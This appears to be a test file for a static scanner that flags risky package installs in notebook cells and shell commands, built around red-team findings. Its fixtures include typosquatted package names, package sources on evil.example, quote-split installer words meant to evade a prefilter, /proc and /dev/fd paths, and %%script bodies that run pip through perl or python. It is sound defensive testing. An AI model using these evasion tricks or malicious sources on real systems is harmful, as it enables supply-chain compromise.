/**
 * Static reading of the install shapes the red team found unread (notes/red3 F14, F16, F12):
 * notebook cells with IPython's `{expr}` program word, `conda env create -f` of an environment
 * file under any name, and uv projects in a folder laid out like a cloned repository. The
 * shared vectors (vectors.spec.ts) pin the decisions both sides make; these pin what only the
 * static side sees (cells, places).
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { shellInstalls } from './commands';
import { COMMAND_LINE } from './request';
import { scanCellInstalls } from './scan';

let dir: string;

beforeEach(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'warden-installfiles-'));
});

afterEach(() => {
  fs.rmSync(dir, { recursive: true, force: true });
});

function read(command: string) {
  const context = {
    cwd: dir,
    place: COMMAND_LINE,
    env: {},
    readFile: (p: string) => fs.readFileSync(p, 'utf8'),
    label: (p: string) => path.basename(p)
  };
  return shellInstalls(command, 0, {}, context).map(f => ({
    command: f.request.command,
    names: f.request.requirements.map(r => r.name),
    sources: f.request.sources.map(s => s.url),
    problems: f.request.problems.map(p => p.text)
  }));
}

const notebook = () => path.join(dir, 'train.ipynb');
const rules = (cell: string) =>
  scanCellInstalls(notebook(), cell, {}).map(f => f.finding.ruleId);

describe('issue 20: pixi, rye and pip-tools in notebook cells', () => {
  it('passes the cell prefilter and decides the packages they name', () => {
    expect(rules('!pixi add torcj\n').sort()).toEqual([
      'install-imitation-name',
      'install-unreadable'
    ]);
    expect(rules('!rye add aiohtt').sort()).toEqual([
      'install-known-malicious',
      'install-unreadable'
    ]);
    expect(rules('!pip-compile requirements.in')).toEqual([
      'install-unreadable'
    ]);
    expect(rules('!{sys.executable} -m piptools compile r.in')).toEqual([
      'install-unreadable'
    ]);
    expect(rules('!pixi info')).toEqual([]);
  });
});

describe('F16: IPython {expr} program words', () => {
  it('reads !{sys.executable} -m pip as python -m pip', () => {
    expect(read('{sys.executable} -m pip install aiohtt')).toEqual([
      { command: 'pip install', names: ['aiohtt'], sources: ['https://pypi.org/simple'], problems: [] }
    ]); // prettier-ignore
    expect(
      rules('import sys\n!{sys.executable} -m pip install aiohtt\n')
    ).toEqual(['install-known-malicious']);
    expect(rules('!python{v} -m pip install aiohtt')).toEqual([
      'install-known-malicious'
    ]);
    expect(rules('!{sys.executable} -m uv pip install torcj')).toEqual([
      'install-imitation-name'
    ]);
  });

  it.each([
    '!{PIP} install aiohtt',
    "!{'pip'} install numpy",
    '!{conda} install numpy',
    '!{sys.executable} -c "import pip"'
  ])('refuses any other {expr} program word as unreadable: %s', cell => {
    expect(rules(cell)).toEqual(['install-unreadable']);
  });

  it('leaves a cell with no installer and no interpolated program alone', () => {
    expect(rules('x = {"a": 1}\nprint(x)')).toEqual([]);
  });
});

describe('F14: conda env create -f reads the YAML environment file', () => {
  it('reads channels, conda and pip dependencies of a file under any name', () => {
    fs.writeFileSync(
      path.join(dir, 'conda.yaml'),
      'name: ml\nchannels: [https://evil.example/conda]\ndependencies:\n  - numpy=1.26\n  - pip:\n      - evilpip==6.6.6\n'
    );
    const [found] = read('conda env create -f conda.yaml');
    expect(found.names).toEqual(['numpy', 'evilpip']);
    expect(found.sources).toContain('https://evil.example/conda');
    expect(found.problems).toEqual([]);
  });
});

describe('F12/F7: uv projects and front ends in a cell', () => {
  it('names the packages a project, a script and a front end install', () => {
    fs.mkdirSync(path.join(dir, 'src'));
    fs.writeFileSync(
      path.join(dir, 'pyproject.toml'),
      '[project]\nname = "demo"\ndependencies = ["numpy"]\n[dependency-groups]\ndev = ["pytest"]\n'
    );
    fs.writeFileSync(
      path.join(dir, 'uv.lock'),
      'version = 1\n[[package]]\nname = "numpy"\nversion = "2.0"\nsource = { registry = "https://evil.example/simple" }\n'
    );
    const [sync] = read('uv sync');
    expect(sync.names).toEqual(['numpy', 'pytest', 'numpy']);
    expect(sync.sources).toContain('https://evil.example/simple');
    expect(read('conda run -n other pipx install torcj')[0].names).toEqual([
      'torcj'
    ]);
    expect(read('poetry run pip install aiohtt')[0].names).toEqual(['aiohtt']);
    // pdm run installs a script's PEP 723 dependencies itself: not read, refused (red5 F1)
    expect(read('pdm run train.py')[0].problems).not.toEqual([]);
    expect(read('pipenv run python train.py')).toEqual([]);
  });
});

describe('uv commands are denied by default (issue 20, red team 4 F2/F4)', () => {
  it('reads harmless uv commands as no install and refuses the others', () => {
    for (const command of [
      'uv --version',
      'uv help sync',
      'uv cache clean',
      'uv pip list',
      'uv tool list',
      'uv python list',
      'uv venv .venv',
      'uv version --short',
      'uv'
    ]) {
      expect([command, read(command)]).toEqual([command, []]);
    }
    for (const command of [
      'uv build',
      'uv venv --seed',
      'uv python install 3.12',
      'uv self update',
      'uv constructor x',
      'uv run --project ../evil python -c 1',
      'uv -q pip install --directory=evil six'
    ]) {
      const [request] = read(command);
      expect([command, request.problems.length > 0]).toEqual([command, true]);
    }
  });
});

describe('a project override read as the project and as uv config (red6 F3)', () => {
  it('is decided once', () => {
    const url = 'http://127.0.0.1:8766/files/black-99.0-py3-none-any.whl';
    fs.writeFileSync(
      path.join(dir, 'pyproject.toml'),
      `[project]\nname = "x"\nversion = "0"\ndependencies = ["black"]\n[tool.uv]\noverride-dependencies = ["black @ ${url}"]\n`
    );
    const [found] = read('uv sync');
    expect(found.names).toEqual(['black', 'black']);
    expect(found.problems).toEqual([]);
  });
});

describe('red team 6 F15: the cell prefilter sees words after shell quote removal', () => {
  it('reads installer words split by quotes or backslashes', () => {
    for (const cell of [
      "!p''ipx install torcj",
      '!p\\ipx install torcj',
      '!p"i"px install torcj'
    ]) {
      expect([cell, rules(cell)]).toEqual([cell, ['install-imitation-name']]);
    }
    expect(rules('!co"n"da install -c evil torcj').length).toBeGreaterThan(0);
  });
});

describe('red7 R7-8: local folders by absolute path or file: URL', () => {
  const sources =
    '[project]\nname = "demo"\nversion = "0.1"\ndependencies = ["black"]\n\n' +
    '[tool.uv.sources]\nblack = { url = "https://evil.example/black-99.0-py3-none-any.whl" }\n';

  it('reads the folder as a project, as for ./proj', () => {
    const proj = path.join(dir, 'proj');
    fs.mkdirSync(proj);
    fs.writeFileSync(path.join(proj, 'pyproject.toml'), sources);
    fs.writeFileSync(path.join(dir, 'c.txt'), `demo @ file://${proj}\n`);
    for (const cell of [
      `!uv pip install 'demo @ file://${proj}'`,
      `!uv pip install 'file://${proj}'`,
      `!uv pip install 'file://localhost${proj}'`,
      `!uv tool install 'demo @ file://${proj}'`,
      '!uv pip install -c c.txt numpy'
    ]) {
      expect(rules(cell)).toEqual(['install-direct-reference']);
    }
  });

  it('decides name @ file:///folder as the name and its project, not a download', () => {
    const clean = path.join(dir, 'clean');
    fs.mkdirSync(clean);
    fs.writeFileSync(
      path.join(clean, 'pyproject.toml'),
      '[project]\nname = "clean"\nversion = "0.1"\n'
    );
    expect(rules(`!pip install 'clean @ file://${clean}'`)).toEqual([]);
    expect(rules(`!pip install 'torcj @ file://${clean}'`)).toEqual([
      'install-imitation-name'
    ]);
  });
});

describe('red team F6: uv in a workspace member', () => {
  it('reads the workspace root above, its members and its uv.lock', () => {
    const write = (name: string, text: string) => {
      fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
      fs.writeFileSync(path.join(dir, name), text);
    };
    const member = (name: string, dep: string) =>
      `[project]\nname = "${name}"\nversion = "0.1"\ndependencies = ["${dep}"]\n`;
    const lock = (url: string) =>
      'version = 1\n[[package]]\nname = "six"\nversion = "1"\n' +
      `source = { registry = "https://pypi.org/simple" }\nwheels = [{ url = "${url}" }]\n`;
    write(
      'pyproject.toml',
      '[project]\nname = "root"\nversion = "0.1"\n\n[tool.uv.workspace]\nmembers = ["a", "b"]\n'
    );
    write('a/pyproject.toml', member('a', 'numpy'));
    write('b/pyproject.toml', member('b', 'tranformers'));
    write(
      'uv.lock',
      lock('https://files.pythonhosted.org/packages/six-1-py3-none-any.whl')
    );
    const inMember = (cell: string) =>
      scanCellInstalls(path.join(dir, 'a', 'x.ipynb'), cell, {}).map(
        f => f.finding.ruleId
      );
    expect(inMember('!uv sync')).toEqual(['install-imitation-name']);
    write('b/pyproject.toml', member('b', 'requests'));
    expect(inMember('!uv sync')).toEqual([]);
    write('uv.lock', lock('https://evil.example/six-1-py3-none-any.whl'));
    expect(inMember('!uv run python -c 1')).toEqual([
      'install-direct-reference'
    ]);
  });
});

describe('red team 7 R7-5, L-2: continued lines in cells', () => {
  it('reads a ! line continued with a backslash as IPython joins it', () => {
    expect(
      rules('!pip install black \\\n-i http://127.0.0.1:8766/simple\n')
    ).toEqual(['install-index-not-allowed']);
    expect(
      rules(
        '!pipx install black \\\n--index-url http://127.0.0.1:8766/simple\n'
      )
    ).toEqual(['install-index-not-allowed']);
  });

  it('joins a backslash-newline inside a %%bash word as bash does', () => {
    expect(rules('%%bash\npi\\\np install torcj\n')).toEqual([
      'install-imitation-name'
    ]);
    expect(rules('%%bash\np\\\nipx install torcj\n')).toEqual([
      'install-imitation-name'
    ]);
  });

  it('reads the body of every %%script head that starts a shell (R8-18)', () => {
    const body =
      'uv pip install --index-url http://127.0.0.1:8766/simple black\n';
    for (const head of [
      '%%script /bin/bash',
      '%%script --bg bash',
      '%%script env bash',
      '%%capture\n%%bash',
      '%%time\n%%bash'
    ]) {
      expect([head, rules(`${head}\n${body}`)]).toEqual([
        head,
        ['install-index-not-allowed']
      ]);
    }
    expect(rules('%%script --bg bash\necho hello\n')).toEqual([]);
  });

  it('refuses a %%script body naming an installer when its program is no shell (R8-18)', () => {
    for (const cell of [
      '%%script perl\nsystem("pip install black");\n',
      '%%script python3 -I\nimport subprocess\nsubprocess.run(["uv", "pip", "install", "black"])\n',
      '%%script env -i python3\nimport os\nos.system("uv pip install black")\n'
    ]) {
      expect([cell, rules(cell)]).toEqual([cell, ['install-unreadable']]);
    }
    expect(rules('%%script perl\nprint "uv is fast";\n')).toEqual([
      'install-unreadable'
    ]);
    expect(rules('%%script perl\nprint "hello";\n')).toEqual([]);
    expect(
      rules(
        '%%python3\nimport subprocess\nsubprocess.run(["pip", "--version"])\n'
      )
    ).toEqual([]);
  });

  it('leaves a continued echo or comment alone (IPython runs one line)', () => {
    expect(rules('!echo \\\npip install torcj\n')).toEqual([]);
    expect(rules('!echo x; # \\\npip install torcj\n')).toEqual([]);
  });
});

describe('red team 11 R11-18: files named through the reading process', () => {
  it('refuses /proc and /dev/fd paths, which name the reader, and reads the file itself', () => {
    fs.writeFileSync(path.join(dir, 'r.txt'), 'numpy\n');
    for (const file of ['/proc/self/cwd/r.txt', '/dev/fd/0', '/dev/stdin']) {
      expect(JSON.stringify(read(`pip install -r ${file}`))).toContain(
        'names the process reading it'
      );
    }
    const [plain] = read(`pip install -r ${path.join(dir, 'r.txt')}`);
    expect(plain.names).toEqual(['numpy']);
    expect(plain.problems).toEqual([]);
  });
});

// red team 17 R17-11: every piece of a cell's shell text is read, as the kernel reads every
// start (an installer-word prefilter passed over these, which the kernel refuses)
describe('red team 17 R17-11: shell text without an installer word', () => {
  it.each([
    '!python -I -m webbrowser http://127.0.0.1:9/\n',
    "!python3 -I -c 'help()'\n",
    "!python3 -I -c 'import antigravity'\n",
    '!python3 -I -m smtpd -n -c evil.Server\n',
    "!cp p.txt json.py && python3 -E -c 'import json'\n"
  ])('reports %j as unreadable', cell => {
    expect(rules(cell)).toEqual(['install-unreadable']);
  });
  it.each([
    '!ls -la\n',
    '!nvidia-smi\n',
    '!git clone https://github.com/x/y && cd y && make\n',
    "!python3 -I -c 'import sys; print(sys.version)'\n",
    '!python train.py --epochs 3\n',
    '!wget -q https://example.org/data.zip && unzip -o data.zip\n'
  ])('finds nothing in %j', cell => {
    expect(rules(cell)).toEqual([]);
  });
});

describe('red team 40b R40b-1: a script path source is read from its folder', () => {
  const script = (source: string) =>
    '# /// script\n# dependencies = ["proj"]\n# [tool.uv.sources]\n' +
    `# proj = { path = "${source}" }\n# ///\n`;

  it('reads a path source project folder beside the script', () => {
    const sub = path.join(dir, 'sub', 'proj');
    fs.mkdirSync(sub, { recursive: true });
    fs.writeFileSync(
      path.join(sub, 'pyproject.toml'),
      '[project]\nname = "proj"\nversion = "1"\n' +
        'dependencies = ["evil @ https://evil.example/evil-1.0-py3-none-any.whl"]\n'
    );
    fs.writeFileSync(path.join(dir, 'sub', 's.py'), script('proj'));
    expect(rules('!uv run sub/s.py')).toEqual(['install-direct-reference']);
  });

  it('still runs an ordinary script whose path source has plain dependencies', () => {
    const proj = path.join(dir, 'proj');
    fs.mkdirSync(proj);
    fs.writeFileSync(
      path.join(proj, 'pyproject.toml'),
      '[project]\nname = "proj"\nversion = "1"\ndependencies = ["numpy"]\n'
    );
    fs.writeFileSync(path.join(dir, 's.py'), script('proj'));
    expect(rules('!uv run s.py')).toEqual([]);
  });
});
